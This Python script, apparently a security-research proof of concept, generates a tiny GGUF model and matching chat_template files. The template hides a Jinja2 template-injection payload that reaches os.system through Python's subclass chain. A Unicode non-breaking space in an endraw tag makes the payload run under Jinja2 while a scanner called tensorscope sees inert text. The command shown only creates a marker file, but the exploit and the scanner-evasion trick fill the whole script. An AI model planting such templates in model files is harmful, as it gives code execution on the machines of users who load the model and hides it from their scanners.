# A tiny llama GGUF whose tokenizer.chat_template closes a {% raw %} block with "{%<U+00A0>endraw %}".
# Jinja2's raw rule is r"...\s*endraw\s*..." on a str pattern, so \s matches U+00A0 (and \x0b,
# \x1c-\x1f, \x85, U+2000...): the raw block ends there and the plain dunder chain after it is code.
# minijinja's skip_basic_tag only skips ASCII whitespace, so for tensorscope the raw block runs on to
# the next "{% endraw %}" and the whole payload is inert template data: the judge never sees it.
import os, sys, numpy as np, gguf
here = os.path.dirname(os.path.abspath(__file__))
TAG = sys.argv[1] if len(sys.argv) > 1 else "gguf-template-raw-unicode-space"
T = ('{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}'
     '{% raw %}<|im_end|>{%\u00a0endraw %}'          # Jinja2 ends the raw block here (\s is Unicode)
     '{% for c in "".__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == "_wrap_close" %}'
     '{{ c.__init__.__globals__["system"]("touch /tmp/r37b/pwned-' + TAG + '") }}{% endif %}{% endfor %}'
     '{% raw %}{% endraw %}'                         # minijinja ends the first raw block only here
     '{% if add_generation_prompt %}assistant:{% endif %}')
n_embd, n_ff, n_head = 32, 64, 4
toks = ["<unk>", "<s>", "</s>"] + ["<0x%02X>" % i for i in range(256)] + ["\u2581hi", "\u2581a", "a", "b"]
types = [2, 3, 3] + [6] * 256 + [1] * 4
w = gguf.GGUFWriter(os.path.join(here, "tiny-chat.gguf"), "llama")
w.add_name("tiny"); w.add_context_length(64); w.add_embedding_length(n_embd); w.add_block_count(1)
w.add_feed_forward_length(n_ff); w.add_head_count(n_head); w.add_head_count_kv(n_head)
w.add_rope_dimension_count(n_embd // n_head); w.add_layer_norm_rms_eps(1e-5); w.add_file_type(0)
w.add_tokenizer_model("llama"); w.add_token_list(toks); w.add_token_scores([0.0] * len(toks))
w.add_token_types(types); w.add_bos_token_id(1); w.add_eos_token_id(2); w.add_unk_token_id(0)
w.add_chat_template(T)
rng = np.random.default_rng(0)
f = lambda *s: (rng.standard_normal(s) * 0.02).astype(np.float32)
V = len(toks)
w.add_tensor("token_embd.weight", f(V, n_embd)); w.add_tensor("output_norm.weight", np.ones(n_embd, np.float32))
w.add_tensor("output.weight", f(V, n_embd))
for n in ["attn_q", "attn_k", "attn_v", "attn_output"]:
    w.add_tensor(f"blk.0.{n}.weight", f(n_embd, n_embd))
w.add_tensor("blk.0.attn_norm.weight", np.ones(n_embd, np.float32)); w.add_tensor("blk.0.ffn_norm.weight", np.ones(n_embd, np.float32))
w.add_tensor("blk.0.ffn_gate.weight", f(n_ff, n_embd)); w.add_tensor("blk.0.ffn_up.weight", f(n_ff, n_embd))
w.add_tensor("blk.0.ffn_down.weight", f(n_embd, n_ff))
w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
# the same template in a transformers-style folder (chat_template.jinja and tokenizer_config.json)
import json
os.makedirs(os.path.join(here, "folder"), exist_ok=True)
open(os.path.join(here, "folder", "chat_template.jinja"), "w").write(T)
json.dump({"chat_template": T, "eos_token": "</s>"}, open(os.path.join(here, "folder", "tokenizer_config.json"), "w"))
# control: the same payload written plainly (no trick) -- tensorscope calls this one dangerous
os.makedirs(os.path.join(here, "control"), exist_ok=True)
plain = T.replace(r"\U0000005f", "_").replace("{% raw %}<|im_end|>{%\u00a0endraw %}", "")
open(os.path.join(here, "control", "chat_template.jinja"), "w").write(plain)
